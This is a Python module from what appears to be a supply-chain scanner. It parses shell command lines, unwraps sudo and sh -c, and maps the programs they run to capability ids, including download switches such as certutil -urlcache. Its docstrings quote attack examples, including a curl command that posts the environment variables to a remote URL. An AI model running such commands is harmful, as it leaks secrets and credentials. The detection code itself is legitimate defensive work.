"""Capabilities of command lines handed to a shell or a process.

A ``setup.py`` that runs ``curl -d "$(env)" https://...`` reaches the network and reads the
environment just as surely as one that calls ``requests.post(url, data=os.environ)``. Command
lines are split into simple commands (on ``;``, ``&&``, ``||``, ``|``, ``&``, newlines and inside
``$(...)`` and backticks), and each command's program name is mapped through the catalogue's
``shell`` entries to the same capability ids as the Python APIs.
"""

from __future__ import annotations

import functools
import re
from collections.abc import Iterator

from capwatch.capabilities.catalog import ApiMatcher, load_catalog

_SPLIT = re.compile(r"\$\(|`|\)|&&|\|\||[;|&\n]")
COMMAND_PREFIXES = frozenset({"sudo", "exec", "nohup", "time", "command", "call"})
"""Words that run the command after them (``sudo make``)."""
SHELLS = frozenset({"cmd", "sh", "bash", "zsh", "dash", "ksh", "powershell", "pwsh"})
"""Programs that run the command line they are given (``sh -c "..."``), in lower case."""
_INLINE = frozenset({"/c", "/k", "-c", "-command", "-Command", "-C"})
MAX_COMMAND_LINE = 8192
_SWITCHED = {
    "certutil": frozenset({"-urlcache", "/urlcache", "-verifyctl", "/verifyctl"}),
    "git": frozenset({"clone"}),
}
"""Programs whose catalogue capabilities need one of these switches or subcommands, in lower
case: Windows' ``certutil -urlcache -f URL file`` downloads, while NSS's ``certutil -d sql:dir
-A -i cert`` (the same program name) manages a local certificate database; ``git clone``
downloads a repository, ``git status`` reads one."""


@functools.cache
def _matcher() -> ApiMatcher:
    return load_catalog().matcher("shell")


def program_name(word: str) -> str:
    """The program a command word names: ``"C:\\Python\\python.exe"`` gives ``python``."""
    word = word.strip("\"'()")
    name = re.split(r"[\\/]", word)[-1]
    return name[:-4] if name.lower().endswith((".exe", ".com", ".bat")) else name


def simple_commands(command_line: str, depth: int = 0) -> Iterator[list[str]]:
    """The words of each simple command in a command line, program first, including the
    commands of ``sh -c "..."``; prefixes such as ``sudo`` and ``VAR=value`` are dropped."""
    for part in _SPLIT.split(command_line[:MAX_COMMAND_LINE]):
        words = part.split()
        while words and (
            words[0] in COMMAND_PREFIXES
            or ("=" in words[0] and not words[0].startswith("-"))
            or (words[0] == "env" and len(words) > 1 and not words[1].startswith((">", "<", "2>")))
        ):
            words = words[1:]
        if not words:
            continue
        yield words
        if program_name(words[0]).lower() in SHELLS and depth < 3:
            for index, word in enumerate(words[1:], 1):
                if word in _INLINE or word.lower() in _INLINE:
                    yield from simple_commands(" ".join(words[index + 1 :]), depth + 1)
                    break


def commands(command_line: str) -> Iterator[str]:
    """Program names of the simple commands in a command line, including ``sh -c "..."``."""
    for words in simple_commands(command_line):
        yield program_name(words[0])


def shell_capabilities(command_line: str) -> list[tuple[str, str]]:
    """``(capability, program)`` pairs for the programs a command line runs, each once, in the
    order the command line runs them (so that what a finding lists never depends on hashing)."""
    matcher = _matcher()
    found: dict[tuple[str, str], None] = {}
    for words in simple_commands(command_line):
        program = program_name(words[0])
        switches = _SWITCHED.get(program.lower())
        if switches is not None and not any(w.lower() in switches for w in words[1:]):
            continue
        for cap in matcher.match(program) or matcher.match(program.lower()):
            found[(cap, program)] = None
    return list(found)


_LAUNCHERS = {"start": "/wait", "start-process": "-wait"}
"""Programs that start another and return at once, unless told to wait (``start /wait``)."""


def detached(line: str) -> bool:
    """Whether a command line leaves what it starts running on its own: a trailing ``&``
    (``python3 /tmp/x.py &``) or a launcher that does not wait (``start x.exe``,
    ``Start-Process x``)."""
    stripped = line.rstrip()
    if stripped.endswith("&") and not stripped.endswith("&&"):
        return True
    for words in simple_commands(line):
        wait = _LAUNCHERS.get(program_name(words[0]).lower())
        if wait is not None and wait not in (w.lower() for w in words[1:]):
            return True
    return False
